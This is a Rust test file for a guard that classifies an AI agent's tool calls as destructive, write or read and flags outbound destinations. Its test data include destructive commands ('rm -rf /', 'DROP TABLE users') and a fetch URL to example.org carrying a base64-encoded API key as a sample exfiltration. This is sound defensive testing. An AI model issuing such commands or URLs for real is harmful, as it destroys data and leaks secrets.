//! Signals of whole calls.

use super::fixture::tool;
use super::*;

fn claimed(raw: &str, arguments: &str) -> Vec<(SignalSource, Claim, String)> {
    let found = signals(&tool(raw), &Arguments::read(arguments), None, &[], &Links::default());
    found.signals.into_iter().map(|signal| (signal.source, signal.claim, signal.evidence)).collect()
}

fn of_arguments(raw: &str, arguments: &str) -> Vec<String> {
    let all = claimed(raw, arguments).into_iter();
    all.filter(|(source, ..)| *source == SignalSource::ArgumentAnalysis).map(|(_, _, evidence)| evidence).collect()
}

const RUN: &str = r#"{"name":"run_command","description":"Runs a shell command.","inputSchema":{"type":"object","properties":{"command":{"type":"string"},"args":{"type":"array"}}}}"#;
const SQL: &str = r#"{"name":"execute_sql","description":"Executes a SQL statement on the database.","inputSchema":{"type":"object","properties":{"query":{"type":"string","description":"The SQL"}}}}"#;
const MAIL: &str = r#"{"name":"send_email","description":"Sends an e-mail.","inputSchema":{"type":"object","properties":{"to":{"type":"string"},"body":{"type":"string"}}}}"#;
const FETCH: &str = r#"{"name":"fetch_page","description":"Fetches a web page by its URL.","inputSchema":{"type":"object","properties":{"url":{"type":"string"}}}}"#;
const SEARCH: &str = r#"{"name":"web_search","description":"Searches the web.","inputSchema":{"type":"object","properties":{"query":{"type":"string","description":"What to search for"}}}}"#;

#[test]
fn arguments_are_read_by_what_they_are() {
    let table: &[(&str, &str, &[&str])] = &[
        (RUN, r#"{"command":"rm -rf /srv"}"#, &["command:/command:rm_recursive"]),
        (RUN, r#"{"command":"rm","args":["-rf","/srv"]}"#, &["command:/command:rm_recursive"]),
        (RUN, r#"{"command":"ls -la"}"#, &[]),
        (SQL, r#"{"query":"DROP TABLE users"}"#, &["statement:/query:drop"]),
        (SQL, r#"{"query":"SELECT 1"}"#, &[]),
        (MAIL, r#"{"to":"a@corp.internal","body":"never run rm -rf / or DROP TABLE users;"}"#, &["receiver:s"]),
        (MAIL, r#"{"to":"bob@example.org","body":"hi"}"#, &["destination:/to:example.org", "receiver:s"]),
        (
            MAIL,
            r#"{"to":"a@corp.internal","body":"as https://example.org says, bake it longer"}"#,
            &["mention:/body:example.org", "receiver:s"],
        ),
        (FETCH, r#"{"url":"https://example.org/docs"}"#, &[]),
        (
            FETCH,
            r#"{"url":"https://example.org/?d=QVBJX0tFWT1zay1saXZlLTEyMzQ1Njc4OTBhYmNkZWY"}"#,
            &["payload:/url:example.org"],
        ),
        (SEARCH, r#"{"query":"drop table postgres; how to"}"#, &[]),
    ];
    for (raw, arguments, expected) in table {
        assert_eq!(of_arguments(raw, arguments), *expected, "{arguments}");
    }
}

#[test]
fn a_name_speaks_by_its_tokens() {
    let table: &[(&str, Option<Claim>)] = &[
        ("delete_file", Some(Claim::Destructive)),
        ("get_deleted_items", Some(Claim::Read)),
        ("send_message", Some(Claim::Write)),
        ("postal_code", None),
        ("frobnicate", None),
    ];
    for (name, expected) in table {
        let found = claimed(&format!(r#"{{"name":"{name}"}}"#), "{}");
        let named = found.iter().find(|(source, ..)| *source == SignalSource::NameHeuristic);
        assert_eq!(named.map(|(_, claim, _)| *claim), *expected, "{name}: {found:?}");
    }
}

#[test]
fn the_gravest_signal_but_the_agents_says_what_a_call_does() {
    let operation_of = |raw: &str, arguments: &str, intent: Option<&str>| {
        let (tool, intent) = (tool(raw), intent.map(Intent::read));
        let found = signals(&tool, &Arguments::read(arguments), intent.as_ref(), &[], &Links::default());
        operation(&tool, &found.signals)
    };
    let hinted = r#"{"name":"frobnicate","annotations":{"destructiveHint":true}}"#;
    let write = r#"{"name":"update_page","annotations":{"destructiveHint":true}}"#;
    let destructive = Some(r#"{"operation":"destructive"}"#);
    assert_eq!(operation_of(RUN, r#"{"command":"rm -rf /"}"#, None), OperationClass::Destructive);
    assert_eq!(operation_of(RUN, r#"{"command":"ls"}"#, None), OperationClass::Write);
    assert_eq!(operation_of(FETCH, "{}", destructive), OperationClass::Read, "the agent's word is no fact");
    assert_eq!(operation_of(write, r#"{"force":true}"#, None), OperationClass::Write, "a flag destroys nothing");
    assert_eq!(operation_of(hinted, "{}", None), OperationClass::Destructive);
}

#[test]
fn destinations_are_hosts_outside_each_once() {
    let arguments =
        Arguments::read(r#"{"to":["a@example.org","b@example.org"],"x":"http://localhost/ https://example.net/a"}"#);
    let found = signals(&tool(MAIL), &arguments, None, &[], &Links::default());
    assert_eq!(found.destinations, ["example.org", "example.net"]);
}
